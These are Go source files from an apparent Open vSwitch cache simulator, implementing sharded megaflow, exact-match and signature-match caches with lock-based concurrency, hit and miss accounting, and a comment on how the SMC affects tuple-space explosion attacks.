		return ErrMaskLimit
	}
	if sm.userHooks.Admit != nil {
		return sm.userHooks.Admit(m)
	}
	return nil
}

// shardMaskMinted refcounts a shard-level subtable mint, surfacing the
// user Minted hook only when the mask goes live globally.
func (sm *ShardedMegaflow) shardMaskMinted(m flow.Match) {
	sm.hookMu.Lock()
	defer sm.hookMu.Unlock()
	sm.maskRef[m.Mask]++
	if sm.maskRef[m.Mask] == 1 && sm.userHooks.Minted != nil {
		sm.userHooks.Minted(m)
	}
}

// shardMaskDropped refcounts a shard-level subtable drop, surfacing the
// user Dropped hook when the last shard releases the mask.
func (sm *ShardedMegaflow) shardMaskDropped(mask flow.Mask) {
	sm.hookMu.Lock()
	defer sm.hookMu.Unlock()
	if sm.maskRef[mask] == 0 {
		return
	}
	sm.maskRef[mask]--
	if sm.maskRef[mask] == 0 {
		delete(sm.maskRef, mask)
		if sm.userHooks.Dropped != nil {
			sm.userHooks.Dropped(mask)
		}
	}
}

// SetMaskHooks installs the user-facing mask lifecycle hooks. Must be
// called before concurrent traffic starts (hooks themselves are then
// invoked under the wrapper's ledger lock, serialized across shards).
func (sm *ShardedMegaflow) SetMaskHooks(h MaskHooks) {
	sm.hookMu.Lock()
	defer sm.hookMu.Unlock()
	sm.userHooks = h
}

// NumMasks returns the number of globally distinct masks (a mask
// resident in k shards counts once).
func (sm *ShardedMegaflow) NumMasks() int {
	sm.hookMu.Lock()
	defer sm.hookMu.Unlock()
	return len(sm.maskRef)
}

// Lookup probes the key's shard. Safe under any concurrency.
func (sm *ShardedMegaflow) Lookup(k flow.Key, now uint64) (*Entry, int, bool) {
	return sm.LookupHashed(k, k.Hash(), now)
}

// LookupHashed is Lookup with the flow hash precomputed.
func (sm *ShardedMegaflow) LookupHashed(k flow.Key, h uint64, now uint64) (*Entry, int, bool) {
	sh := &sm.shards[sm.ShardIndex(h)]
	if sm.staged {
		// Staged pruning mutates ranking state on lookup: staged shards
		// serialize their readers behind the write lock (still S-way
		// parallel across shards).
		sh.mu.Lock()
		ent, cost, ok := sh.mf.Lookup(k, now)
		sh.mu.Unlock()
		return ent, cost, ok
	}
	sh.mu.RLock()
	ent, cost, ok := sh.mf.lookupShared(k, now)
	sh.mu.RUnlock()
	return ent, cost, ok
}

// LookupBatch resolves the burst's still-missing keys shard by shard:
// each shard is locked once per burst and swept with the inverted
// per-subtable loop over its own keys. hashes must be the burst's flow
// hashes (the sharded tier declares HashUser so the switch always
// provides them); a nil hashes falls back to per-key scalar probes.
//
//lint:hotpath
func (sm *ShardedMegaflow) LookupBatch(keys []flow.Key, hashes []uint64, now uint64, ents []*Entry, costs []int, miss *burst.Bitmap) {
	if hashes == nil {
		words := miss.Words()
		for wi := range words {
			w := words[wi]
			for w != 0 {
				i := wi<<6 + bits.TrailingZeros64(w)
				w &= w - 1
				ent, cost, ok := sm.Lookup(keys[i], now)
				costs[i] += cost
				if ok {
					ents[i] = ent
					miss.Clear(i)
				}
			}
		}
		return
	}
	for si := range sm.shards {
		if miss.Empty() {
			break
		}
		sid := uint64(si)
		sh := &sm.shards[si]
		if sm.staged {
			sh.mu.Lock()
			sm.shardScalarSweep(sh.mf, sid, keys, hashes, now, ents, costs, miss)
			sh.mu.Unlock()
			continue
		}
		sh.mu.RLock()
		sh.mf.lookupBatchShared(keys, hashes, now, sm.smask, sid, ents, costs, miss)
		sh.mu.RUnlock()
	}
}

// shardScalarSweep probes one (already locked) staged shard key by key
// for the miss-bitmap entries that hash to shard sid.
func (sm *ShardedMegaflow) shardScalarSweep(mf *Megaflow, sid uint64, keys []flow.Key, hashes []uint64, now uint64, ents []*Entry, costs []int, miss *burst.Bitmap) {
	words := miss.Words()
	for wi := range words {
		w := words[wi]
		for w != 0 {
			i := wi<<6 + bits.TrailingZeros64(w)
			w &= w - 1
			if (hashes[i]>>shardShift)&sm.smask != sid {
				continue
			}
			ent, cost, ok := mf.Lookup(keys[i], now)
			costs[i] += cost
			if ok {
				ents[i] = ent
				miss.Clear(i)
			}
		}
	}
}

// AccountRun bills n coalesced hits of ent at scan depth cost. The
// entry's shard is unknown here (runs are keyed by entry, not hash), so
// the hits land on wrapper-level atomic counters and the entry itself —
// no shard lock needed, everything is atomic.
func (sm *ShardedMegaflow) AccountRun(ent *Entry, n int, cost int, now uint64) bool {
	nn := uint64(n)
	atomic.AddUint64(&sm.runLookups, nn)
	atomic.AddUint64(&sm.runHits, nn)
	atomic.AddUint64(&sm.runScans, nn*uint64(cost))
	atomic.AddUint64(&ent.Hits, nn)
	atomic.StoreUint64(&ent.LastHit, now)
	return true
}

// Insert installs a megaflow into the shard of the triggering key's
// hash. Callers on the batched path use InsertHashed with the burst's
// cached hash; this variant hashes the *masked* key as a last resort,
// which only places correctly for exact-match (full-mask) megaflows —
// the dataplane always provides the real key hash.
func (sm *ShardedMegaflow) Insert(match flow.Match, v Verdict, now uint64) (*Entry, error) {
	return sm.InsertHashed(match, v, now, flow.Key(match.Key).Hash())
}

// InsertHashed installs a megaflow into the shard selected by keyHash,
// the flow hash of the key whose upcall synthesised the match.
func (sm *ShardedMegaflow) InsertHashed(match flow.Match, v Verdict, now uint64, keyHash uint64) (*Entry, error) {
	sh := &sm.shards[sm.ShardIndex(keyHash)]
	sh.mu.Lock()
	ent, err := sh.mf.Insert(match, v, now)
	sh.mu.Unlock()
	return ent, err
}

// EvictIdle sweeps every shard in turn, each under its own lock.
func (sm *ShardedMegaflow) EvictIdle(deadline uint64) int {
	n := 0
	for si := range sm.shards {
		n += sm.ShardEvictIdle(si, deadline)
	}
	return n
}

// ShardEvictIdle sweeps one shard — the per-shard revalidation dump.
func (sm *ShardedMegaflow) ShardEvictIdle(si int, deadline uint64) int {
	sh := &sm.shards[si]
	sh.mu.Lock()
	n := sh.mf.EvictIdle(deadline)
	sh.mu.Unlock()
	return n
}

// FlowLimit returns the total entry limit across shards.
func (sm *ShardedMegaflow) FlowLimit() int { return int(sm.limit.Load()) }

// SetFlowLimit sets the total entry limit, splitting it evenly across
// shards (ceiling). Safe to call concurrently with traffic — the
// revalidator's flow-limit lever.
func (sm *ShardedMegaflow) SetFlowLimit(n int) {
	sm.limit.Store(int64(n))
	per := perShardLimit(n, len(sm.shards))
	for si := range sm.shards {
		sh := &sm.shards[si]
		sh.mu.Lock()
		sh.mf.SetFlowLimit(per)
		sh.mu.Unlock()
	}
}

// ShardSetFlowLimit installs one shard's slice of a total limit of n
// entries — the per-shard revalidator view's lever: each shard view
// receives the same total and takes its 1/S share, so a full round over
// the shards is equivalent to one SetFlowLimit(n).
func (sm *ShardedMegaflow) ShardSetFlowLimit(si int, n int) {
	sm.limit.Store(int64(n))
	per := perShardLimit(n, len(sm.shards))
	sh := &sm.shards[si]
	sh.mu.Lock()
	sh.mf.SetFlowLimit(per)
	sh.mu.Unlock()
}

// TrimToLimit trims every shard to its slice of the flow limit.
func (sm *ShardedMegaflow) TrimToLimit() int {
	n := 0
	for si := range sm.shards {
		n += sm.ShardTrimToLimit(si)
	}
	return n
}

// ShardTrimToLimit trims one shard to its slice of the flow limit.
func (sm *ShardedMegaflow) ShardTrimToLimit(si int) int {
	sh := &sm.shards[si]
	sh.mu.Lock()
	n := sh.mf.TrimToLimit()
	sh.mu.Unlock()
	return n
}

// Revalidate re-checks every shard's entries against check, shard by
// shard. check runs under the shard's write lock and may be invoked from
// multiple shards' sweeps concurrently when the revalidator dumps shards
// on different workers — it must be pure (the classifier's read path
// is).
func (sm *ShardedMegaflow) Revalidate(check func(*Entry) (Verdict, bool)) int {
	n := 0
	for si := range sm.shards {
		n += sm.ShardRevalidate(si, check)
	}
	return n
}

// ShardRevalidate runs the consistency pass on one shard.
func (sm *ShardedMegaflow) ShardRevalidate(si int, check func(*Entry) (Verdict, bool)) int {
	sh := &sm.shards[si]
	sh.mu.Lock()
	n := sh.mf.Revalidate(check)
	sh.mu.Unlock()
	return n
}

// Flush drops everything, shard by shard.
func (sm *ShardedMegaflow) Flush() {
	for si := range sm.shards {
		sm.ShardFlush(si)
	}
}

// ShardFlush drops one shard's entries.
func (sm *ShardedMegaflow) ShardFlush(si int) {
	sh := &sm.shards[si]
	sh.mu.Lock()
	sh.mf.Flush()
	sh.mu.Unlock()
}

// Len returns the total resident entries across shards.
func (sm *ShardedMegaflow) Len() int {
	n := 0
	for si := range sm.shards {
		sh := &sm.shards[si]
		sh.mu.RLock()
		n += sh.mf.Len()
		sh.mu.RUnlock()
	}
	return n
}

// ShardLen returns one shard's resident entry count.
func (sm *ShardedMegaflow) ShardLen(si int) int {
	sh := &sm.shards[si]
	sh.mu.RLock()
	n := sh.mf.Len()
	sh.mu.RUnlock()
	return n
}

// Entries returns every resident entry, shard by shard in shard order.
// The snapshot is taken under the shard locks; the entries themselves
// may keep accruing hits after the call returns.
func (sm *ShardedMegaflow) Entries() []*Entry {
	var out []*Entry
	for si := range sm.shards {
		sh := &sm.shards[si]
		sh.mu.Lock()
		out = append(out, sh.mf.Entries()...)
		sh.mu.Unlock()
	}
	return out
}

// ShardSnapshot returns one shard's counters, read under the shard's
// write lock so the child's reader-atomic counters settle first.
func (sm *ShardedMegaflow) ShardSnapshot(si int) MegaflowShardSnapshot {
	sh := &sm.shards[si]
	sh.mu.Lock()
	defer sh.mu.Unlock()
	return MegaflowShardSnapshot{
		Entries: sh.mf.Len(), Masks: sh.mf.NumMasks(),
		Hits: sh.mf.Hits, Misses: sh.mf.Misses,
		Lookups: sh.mf.Lookups, MasksScanned: sh.mf.MasksScanned,
		SubtableVisits: sh.mf.SubtableVisits, SubtablePrunes: sh.mf.SubtablePrunes,
	}
}

// Snapshot aggregates every shard's counters plus the wrapper's
// run-coalescing accounting; Masks is the global distinct-mask count.
func (sm *ShardedMegaflow) Snapshot() MegaflowShardSnapshot {
	var agg MegaflowShardSnapshot
	for si := range sm.shards {
		s := sm.ShardSnapshot(si)
		agg.Entries += s.Entries
		agg.Hits += s.Hits
		agg.Misses += s.Misses
		agg.Lookups += s.Lookups
		agg.MasksScanned += s.MasksScanned
		agg.SubtableVisits += s.SubtableVisits
		agg.SubtablePrunes += s.SubtablePrunes
	}
	agg.Masks = sm.NumMasks()
	agg.Hits += atomic.LoadUint64(&sm.runHits)
	agg.Lookups += atomic.LoadUint64(&sm.runLookups)
	agg.MasksScanned += atomic.LoadUint64(&sm.runScans)
	return agg
}

// lookupShared is the read-side scalar probe of a shared child: safe
// under the shard's read lock concurrently with other readers. Every
// counter and entry mutation is atomic; no resorting, no staged state,
// no map writes.
func (m *Megaflow) lookupShared(k flow.Key, now uint64) (*Entry, int, bool) {
	scanned := 0
	for _, st := range m.subtables {
		scanned++
		if ent, ok := st.entries[st.mask.Apply(k)]; ok {
			atomic.AddUint64(&ent.Hits, 1)
			atomic.StoreUint64(&ent.LastHit, now)
			atomic.AddUint64(&st.hits, 1)
			atomic.StoreUint64(&st.lastHit, now)
			atomic.AddUint64(&m.Lookups, 1)
			atomic.AddUint64(&m.Hits, 1)
			atomic.AddUint64(&m.MasksScanned, uint64(scanned))
			return ent, scanned, true
		}
	}
	atomic.AddUint64(&m.Lookups, 1)
	atomic.AddUint64(&m.Misses, 1)
	atomic.AddUint64(&m.MasksScanned, uint64(scanned))
	return nil, scanned, false
}

// lookupBatchShared is the read-side inverted sweep of a shared child,
// restricted to the miss-bitmap keys whose hash selects shard sid: each
// subtable is visited once per burst, counter effects are atomic, and
// only this shard's bits are resolved or billed.
//
//lint:hotpath
func (m *Megaflow) lookupBatchShared(keys []flow.Key, hashes []uint64, now uint64, smask, sid uint64, ents []*Entry, costs []int, miss *burst.Bitmap) {
	// Count this shard's share of the burst up front so the subtable
	// sweep can stop as soon as the last of them resolves.
	remaining := 0
	words := miss.Words()
	for wi := range words {
		w := words[wi]
		for w != 0 {
			i := wi<<6 + bits.TrailingZeros64(w)
			w &= w - 1
			if (hashes[i]>>shardShift)&smask == sid {
				remaining++
			}
		}
	}
	if remaining == 0 {
		return
	}
	var lookups, hits, scanned uint64
	nSub := len(m.subtables)
	for si, st := range m.subtables {
		if remaining == 0 {
			break
		}
		pos := uint64(si + 1)
		mask := st.mask
		tbl := st.entries
		words := miss.Words()
		for wi := range words {
			w := words[wi]
			for w != 0 {
				i := wi<<6 + bits.TrailingZeros64(w)
				w &= w - 1
				if (hashes[i]>>shardShift)&smask != sid {
					continue
				}
				ent, ok := tbl[mask.Apply(keys[i])]
				if !ok {
					continue
				}
				atomic.AddUint64(&ent.Hits, 1)
				atomic.StoreUint64(&ent.LastHit, now)
				atomic.AddUint64(&st.hits, 1)
				atomic.StoreUint64(&st.lastHit, now)
				lookups++
				hits++
				scanned += pos
				ents[i] = ent
				costs[i] += int(pos)
				miss.Clear(i)
				remaining--
			}
		}
	}
	// This shard's survivors paid its full scan: bill them as misses.
	var misses uint64
	if remaining > 0 {
		words := miss.Words()
		for wi := range words {
			w := words[wi]
			for w != 0 {
				i := wi<<6 + bits.TrailingZeros64(w)
				w &= w - 1
				if (hashes[i]>>shardShift)&smask != sid {
					continue
				}
				costs[i] += nSub
				misses++
			}
		}
		lookups += misses
		scanned += misses * uint64(nSub)
	}
	if lookups > 0 {
		atomic.AddUint64(&m.Lookups, lookups)
		atomic.AddUint64(&m.MasksScanned, scanned)
	}
	if hits > 0 {
		atomic.AddUint64(&m.Hits, hits)
	}
	if misses > 0 {
		atomic.AddUint64(&m.Misses, misses)
	}
}

// emcShard is one exact-match shard (see mfShard).
//
//lint:sharded
type emcShard struct {
	mu  sync.RWMutex
	emc *EMC
}

// CacheSnapshot is a reference-tier (EMC/SMC) stats snapshot.
type CacheSnapshot struct {
	Hits, Misses, Inserts, Evictions, Stale uint64
	Entries, Capacity                       int
}

// ShardedEMC is the concurrent exact-match cache: reads under per-shard
// read locks with atomic accounting, inserts under per-shard write
// locks. Total capacity is split evenly across shards; each shard draws
// its probabilistic-insertion sequence from its own deterministic PRNG.
type ShardedEMC struct {
	smask   uint64
	shards  []emcShard
	runHits uint64 // coalesced-run hits (atomic; shard unknown for runs)
}

// NewShardedEMC builds a sharded EMC with the given shard count
// (rounded to a power of two in [2, 256]; <= 0 means DefaultShards).
func NewShardedEMC(cfg EMCConfig, shards int) *ShardedEMC {
	if shards <= 0 {
		shards = DefaultShards
	}
	n := roundShards(shards)
	max := cfg.Entries
	if max == 0 {
		max = DefaultEMCEntries
	}
	if max < 0 {
		max = 0
	}
	se := &ShardedEMC{smask: uint64(n - 1), shards: make([]emcShard, n)}
	child := cfg
	child.Entries = perShardLimit(max, n)
	if max == 0 {
		child.Entries = -1
	}
	for i := range se.shards {
		c := child
		// Distinct, reproducible per-shard PRNG streams.
		c.Seed = cfg.Seed + uint64(i+1)*0x9e3779b97f4a7c15
		se.shards[i].emc = NewEMC(c)
	}
	return se
}

// NumShards returns the shard count.
func (se *ShardedEMC) NumShards() int { return len(se.shards) }

// ShardIndex returns the shard a flow hash selects.
func (se *ShardedEMC) ShardIndex(h uint64) int {
	return int((h >> shardShift) & se.smask)
}

// Lookup probes the key's shard under its read lock.
func (se *ShardedEMC) Lookup(k flow.Key, now uint64) (*Entry, bool) {
	return se.LookupHashed(k, k.Hash(), now)
}

// LookupHashed is Lookup with the flow hash precomputed.
func (se *ShardedEMC) LookupHashed(k flow.Key, h uint64, now uint64) (*Entry, bool) {
	sh := &se.shards[se.ShardIndex(h)]
	sh.mu.RLock()
	ent, ok := sh.emc.lookupShared(k, now)
	sh.mu.RUnlock()
	return ent, ok
}

// LookupBatch resolves the burst's still-missing keys shard by shard,
// one read lock per shard per burst.
//
//lint:hotpath
func (se *ShardedEMC) LookupBatch(keys []flow.Key, hashes []uint64, now uint64, ents []*Entry, miss *burst.Bitmap) {
	for si := range se.shards {
		if miss.Empty() {
			return
		}
		sid := uint64(si)
		sh := &se.shards[si]
		sh.mu.RLock()
		words := miss.Words()
		for wi := range words {
			w := words[wi]
			for w != 0 {
				i := wi<<6 + bits.TrailingZeros64(w)
				w &= w - 1
				if (hashes[i]>>shardShift)&se.smask != sid {
					continue
				}
				if ent, ok := sh.emc.lookupShared(keys[i], now); ok {
					ents[i] = ent
					miss.Clear(i)
				}
			}
		}
		sh.mu.RUnlock()
	}
}

// AccountRun bills n coalesced hits of resident entry f — all atomic,
// no shard lock (the run's shard is unknown and unneeded).
func (se *ShardedEMC) AccountRun(f *Entry, n int, now uint64) {
	nn := uint64(n)
	atomic.AddUint64(&se.runHits, nn)
	atomic.AddUint64(&f.Hits, nn)
	atomic.StoreUint64(&f.LastHit, now)
}

// Insert caches a reference in the key's shard under its write lock.
func (se *ShardedEMC) Insert(k flow.Key, f *Entry) {
	se.InsertHashed(k, k.Hash(), f)
}

// InsertHashed is Insert with the flow hash precomputed.
func (se *ShardedEMC) InsertHashed(k flow.Key, h uint64, f *Entry) {
	sh := &se.shards[se.ShardIndex(h)]
	sh.mu.Lock()
	sh.emc.Insert(k, f)
	sh.mu.Unlock()
}

// Flush empties every shard.
func (se *ShardedEMC) Flush() {
	for si := range se.shards {
		sh := &se.shards[si]
		sh.mu.Lock()
		sh.emc.Flush()
		sh.mu.Unlock()
	}
}

// Len returns the total cached microflows.
func (se *ShardedEMC) Len() int {
	n := 0
	for si := range se.shards {
		sh := &se.shards[si]
		sh.mu.RLock()
		n += sh.emc.Len()
		sh.mu.RUnlock()
	}
	return n
}

// Cap returns the total configured capacity.
func (se *ShardedEMC) Cap() int {
	n := 0
	for si := range se.shards {
		sh := &se.shards[si]
		sh.mu.RLock()
		n += sh.emc.Cap()
		sh.mu.RUnlock()
	}
	return n
}

// Snapshot aggregates every shard's counters (under the shard write
// locks) plus the wrapper's coalesced-run hits.
func (se *ShardedEMC) Snapshot() CacheSnapshot {
	var agg CacheSnapshot
	for si := range se.shards {
		sh := &se.shards[si]
		sh.mu.Lock()
		agg.Hits += sh.emc.Hits
		agg.Misses += sh.emc.Misses
		agg.Inserts += sh.emc.Inserts
		agg.Evictions += sh.emc.Evictions
		agg.Stale += sh.emc.Stale
		agg.Entries += sh.emc.Len()
		agg.Capacity += sh.emc.Cap()
		sh.mu.Unlock()
	}
	agg.Hits += atomic.LoadUint64(&se.runHits)
	return agg
}

// lookupShared is the EMC's read-side probe for sharded use: atomic
// accounting, and — critically — no purge of stale references (that
// would be a map write under a read lock); a dead reference keeps
// missing until an insert overwrites it or a flush sweeps it.
func (e *EMC) lookupShared(k flow.Key, now uint64) (*Entry, bool) {
	if e.max == 0 {
		return nil, false
	}
	ent, ok := e.entries[k]
	if !ok {
		atomic.AddUint64(&e.Misses, 1)
		return nil, false
	}
	f := ent.flow
	if f.Dead() {
		atomic.AddUint64(&e.Stale, 1)
		atomic.AddUint64(&e.Misses, 1)
		return nil, false
	}
	atomic.AddUint64(&f.Hits, 1)
	atomic.StoreUint64(&f.LastHit, now)
	atomic.AddUint64(&e.Hits, 1)
	return f, true
}

// smcShard is one signature-match shard (see mfShard).
//
//lint:sharded
type smcShard struct {
	mu  sync.RWMutex
	smc *SMC
}

// ShardedSMC is the concurrent signature-match cache; sharding and
// locking mirror ShardedEMC. The shard index uses hash bits [32,40),
// disjoint from both the fingerprint (low bits) and the signature (top
// 16 bits), so per-shard tables keep full discrimination.
type ShardedSMC struct {
	smask   uint64
	shards  []smcShard
	runHits uint64 // coalesced-run hits (atomic)
}

// NewShardedSMC builds a sharded SMC with the given shard count
// (rounded to a power of two in [2, 256]; <= 0 means DefaultShards).
func NewShardedSMC(cfg SMCConfig, shards int) *ShardedSMC {
	if shards <= 0 {
		shards = DefaultShards
	}
	n := roundShards(shards)
	max := cfg.Entries
	if max == 0 {
		max = DefaultSMCEntries
	}
	ss := &ShardedSMC{smask: uint64(n - 1), shards: make([]smcShard, n)}
	child := cfg
	if max > 0 {
		child.Entries = perShardLimit(max, n)
	}
	for i := range ss.shards {
		ss.shards[i].smc = NewSMC(child)
	}
	return ss
}

// NumShards returns the shard count.
func (ss *ShardedSMC) NumShards() int { return len(ss.shards) }

// ShardIndex returns the shard a flow hash selects.
func (ss *ShardedSMC) ShardIndex(h uint64) int {
	return int((h >> shardShift) & ss.smask)
}

// Lookup probes the key's shard under its read lock.
func (ss *ShardedSMC) Lookup(k flow.Key, now uint64) (*Entry, bool) {
	return ss.LookupHashed(k, k.Hash(), now)
}

// LookupHashed is Lookup with the flow hash precomputed.
func (ss *ShardedSMC) LookupHashed(k flow.Key, h uint64, now uint64) (*Entry, bool) {
	sh := &ss.shards[ss.ShardIndex(h)]
	sh.mu.RLock()
	ent, ok := sh.smc.lookupHashedShared(k, h, now)
	sh.mu.RUnlock()
	return ent, ok
}

// LookupBatch resolves the burst's still-missing keys shard by shard
// over the burst's precomputed hashes.
//
//lint:hotpath
func (ss *ShardedSMC) LookupBatch(keys []flow.Key, hashes []uint64, now uint64, ents []*Entry, miss *burst.Bitmap) {
	for si := range ss.shards {
		if miss.Empty() {
			return
		}
		sid := uint64(si)
		sh := &ss.shards[si]
		sh.mu.RLock()
		words := miss.Words()
		for wi := range words {
			w := words[wi]
			for w != 0 {
				i := wi<<6 + bits.TrailingZeros64(w)
				w &= w - 1
				if (hashes[i]>>shardShift)&ss.smask != sid {
					continue
				}
				if ent, ok := sh.smc.lookupHashedShared(keys[i], hashes[i], now); ok {
					ents[i] = ent
					miss.Clear(i)
				}
			}
		}
		sh.mu.RUnlock()
	}
}

// AccountRun bills n coalesced hits of resident entry f atomically.
func (ss *ShardedSMC) AccountRun(f *Entry, n int, now uint64) {
	nn := uint64(n)
	atomic.AddUint64(&ss.runHits, nn)
	atomic.AddUint64(&f.Hits, nn)
	atomic.StoreUint64(&f.LastHit, now)
}

// Insert caches a reference in the key's shard under its write lock.
func (ss *ShardedSMC) Insert(k flow.Key, f *Entry) {
	ss.InsertHashed(k, k.Hash(), f)
}

// InsertHashed is Insert with the flow hash precomputed.
func (ss *ShardedSMC) InsertHashed(k flow.Key, h uint64, f *Entry) {
	sh := &ss.shards[ss.ShardIndex(h)]
	sh.mu.Lock()
	sh.smc.InsertHashed(k, h, f)
	sh.mu.Unlock()
}

// Flush empties every shard.
func (ss *ShardedSMC) Flush() {
	for si := range ss.shards {
		sh := &ss.shards[si]
		sh.mu.Lock()
		sh.smc.Flush()
		sh.mu.Unlock()
	}
}

// Len returns the total occupied fingerprint slots.
func (ss *ShardedSMC) Len() int {
	n := 0
	for si := range ss.shards {
		sh := &ss.shards[si]
		sh.mu.RLock()
		n += sh.smc.Len()
		sh.mu.RUnlock()
	}
	return n
}

// Cap returns the total configured capacity.
func (ss *ShardedSMC) Cap() int {
	n := 0
	for si := range ss.shards {
		sh := &ss.shards[si]
		sh.mu.RLock()
		n += sh.smc.Cap()
		sh.mu.RUnlock()
	}
	return n
}

// Snapshot aggregates every shard's counters plus coalesced-run hits.
func (ss *ShardedSMC) Snapshot() CacheSnapshot {
	var agg CacheSnapshot
	for si := range ss.shards {
		sh := &ss.shards[si]
		sh.mu.Lock()
		agg.Hits += sh.smc.Hits
		agg.Misses += sh.smc.Misses
		agg.Inserts += sh.smc.Inserts
		agg.Evictions += sh.smc.Evictions
		agg.Stale += sh.smc.Stale
		agg.Entries += sh.smc.Len()
		agg.Capacity += sh.smc.Cap()
		sh.mu.Unlock()
	}
	agg.Hits += atomic.LoadUint64(&ss.runHits)
	return agg
}

// lookupHashedShared is the SMC's read-side probe for sharded use:
// atomic accounting and no lazy purge of dead slots (a map delete under
// a read lock is illegal; the slot keeps missing until overwritten).
func (s *SMC) lookupHashedShared(k flow.Key, h uint64, now uint64) (*Entry, bool) {
	if s.max == 0 {
		return nil, false
	}
	fp, sig := s.indexHash(h)
	slot, ok := s.slots[fp]
	if !ok || slot.sig != sig {
		atomic.AddUint64(&s.Misses, 1)
		return nil, false
	}
	if slot.ent.Dead() {
		atomic.AddUint64(&s.Stale, 1)
		atomic.AddUint64(&s.Misses, 1)
		return nil, false
	}
	if slot.ent.Match.Mask.Apply(k) != slot.ent.Match.Key {
		atomic.AddUint64(&s.Misses, 1)
		return nil, false
	}
	atomic.AddUint64(&slot.ent.Hits, 1)
	atomic.StoreUint64(&slot.ent.LastHit, now)
	atomic.AddUint64(&s.Hits, 1)
	return slot.ent, true
}
