package cache

import (
	"math/bits"

	"policyinject/internal/burst"
	"policyinject/internal/flow"
)

// SMC is the signature-match cache OVS 2.10 added between the EMC and the
// megaflow TSS: a large, cheap fingerprint→megaflow map. Where the EMC
// stores full keys (large entries, small capacity), the SMC stores only a
// hash fingerprint and a reference to the megaflow entry, so it holds two
// orders of magnitude more flows in comparable memory (the OVS default is
// one million entries against the EMC's 8192).
//
// An SMC hit must still verify the referenced megaflow against the packet
// (the fingerprint is lossy), but that is one masked comparison instead of
// a scan over every resident mask — which changes the economics of the
// tuple-space explosion attack: attacker masks still grow the TSS scan,
// but any flow the SMC retains skips the scan entirely, and the SMC is far
// too large for the covert stream to thrash the way it thrashes the EMC.
//
// The model is deterministic: the table is a direct-mapped
// fingerprint-indexed map (a colliding insert overwrites), reproducing the
// bounded-memory, overwrite-on-collision behaviour of the real
// fixed-geometry structure without modelling its 4-way buckets.
type SMC struct {
	cfg    SMCConfig
	max    int
	fpMask uint64
	slots  map[uint64]smcSlot

	// Stats
	Hits, Misses, Inserts, Evictions, Stale uint64
}

// SMCConfig tunes the signature-match cache.
type SMCConfig struct {
	// Entries caps the number of fingerprints, rounded up to a power of
	// two. 0 means the OVS default of one million. Negative disables the
	// cache.
	Entries int
}

// DefaultSMCEntries matches the OVS smc-enable default table size.
const DefaultSMCEntries = 1 << 20

type smcSlot struct {
	sig uint16 // signature: high hash bits, cheap mismatch rejection
	ent *Entry
}

// NewSMC builds a signature-match cache per cfg.
func NewSMC(cfg SMCConfig) *SMC {
	max := cfg.Entries
	if max == 0 {
		max = DefaultSMCEntries
	}
	if max < 0 {
		return &SMC{cfg: cfg}
	}
	// Round up to a power of two so fingerprints are a simple bit mask.
	// (Capped below the shift-overflow point; nobody needs 2^62 slots.)
	n := 1
	for n < max && n < 1<<62 {
		n <<= 1
	}
	return &SMC{cfg: cfg, max: n, fpMask: uint64(n - 1), slots: make(map[uint64]smcSlot)}
}

// Cap returns the configured capacity (0 when disabled).
func (s *SMC) Cap() int { return s.max }

// Len returns the number of occupied fingerprint slots.
func (s *SMC) Len() int { return len(s.slots) }

func (s *SMC) index(k flow.Key) (fp uint64, sig uint16) {
	return s.indexHash(k.Hash())
}

func (s *SMC) indexHash(h uint64) (fp uint64, sig uint16) {
	return h & s.fpMask, uint16(h >> 48)
}

// Lookup consults the cache at logical time now. A fingerprint hit is
// verified against the referenced megaflow's mask before being trusted
// (fingerprints collide; signatures only pre-filter), and entries whose
// megaflow has died are purged lazily, exactly as the EMC does.
func (s *SMC) Lookup(k flow.Key, now uint64) (*Entry, bool) {
	if s.max == 0 {
		return nil, false
	}
	return s.LookupHashed(k, k.Hash(), now)
}

// LookupHashed is Lookup with the key's flow hash already computed — the
// batched datapath hashes each key once at burst entry and every
// hash-consuming tier reuses that value instead of re-hashing per probe.
func (s *SMC) LookupHashed(k flow.Key, h uint64, now uint64) (*Entry, bool) {
	if s.max == 0 {
		return nil, false
	}
	fp, sig := s.indexHash(h)
	slot, ok := s.slots[fp]
	if !ok || slot.sig != sig {
		s.Misses++
		return nil, false
	}
	if slot.ent.Dead() {
		delete(s.slots, fp)
		s.Stale++
		s.Misses++
		return nil, false
	}
	if slot.ent.Match.Mask.Apply(k) != slot.ent.Match.Key {
		// Fingerprint collision between distinct flows: a true miss.
		s.Misses++
		return nil, false
	}
	slot.ent.Hits++
	slot.ent.LastHit = now
	s.Hits++
	return slot.ent, true
}

// LookupBatch consults the cache for every key index set in miss at
// logical time now, reusing the burst's precomputed flow hashes: a hit
// writes ents[i] and clears the bit, a miss keeps it. Signature-match
// lookups cost no subtable scans, so costs are untouched. Counter effects
// equal the scalar Lookup sequence over the same keys.
//
//lint:hotpath
func (s *SMC) LookupBatch(keys []flow.Key, hashes []uint64, now uint64, ents []*Entry, miss *burst.Bitmap) {
	if s.max == 0 {
		return
	}
	words := miss.Words()
	for wi := range words {
		w := words[wi]
		for w != 0 {
			i := wi<<6 + bits.TrailingZeros64(w)
			w &= w - 1
			if ent, ok := s.LookupHashed(keys[i], hashes[i], now); ok {
				ents[i] = ent
				miss.Clear(i)
			}
		}
	}
}

// AccountRun bills n additional hits of resident entry f without
// re-probing — the same-flow run coalescing fast path, equivalent to n
// Lookup calls that hit f.
func (s *SMC) AccountRun(f *Entry, n int, now uint64) {
	nn := uint64(n)
	s.Hits += nn
	f.Hits += nn
	f.LastHit = now
}

// Insert caches a reference to megaflow entry f for key k. A colliding
// fingerprint is overwritten — the displacement policy of the real
// fixed-size table.
func (s *SMC) Insert(k flow.Key, f *Entry) {
	if s.max == 0 || f == nil {
		return
	}
	s.InsertHashed(k, k.Hash(), f)
}

// InsertHashed is Insert with k's flow hash already computed — the batched
// datapath's install path, where promotions reuse the burst's cached
// hashes instead of re-hashing each promoted key. Effects are identical to
// Insert given h == k.Hash().
func (s *SMC) InsertHashed(k flow.Key, h uint64, f *Entry) {
	if s.max == 0 || f == nil {
		return
	}
	fp, sig := s.indexHash(h)
	if old, ok := s.slots[fp]; ok && (old.sig != sig || old.ent != f) {
		s.Evictions++
	}
	s.slots[fp] = smcSlot{sig: sig, ent: f}
	s.Inserts++
}

// Remove drops the slot k hashes to, if it currently references a live
// entry for k's fingerprint.
func (s *SMC) Remove(k flow.Key) bool {
	if s.max == 0 {
		return false
	}
	fp, sig := s.index(k)
	slot, ok := s.slots[fp]
	if !ok || slot.sig != sig {
		return false
	}
	delete(s.slots, fp)
	return true
}

// Flush empties the cache (used after policy changes).
func (s *SMC) Flush() {
	if s.max == 0 {
		return
	}
	s.slots = make(map[uint64]smcSlot)
}
