package cache

import (
	"testing"

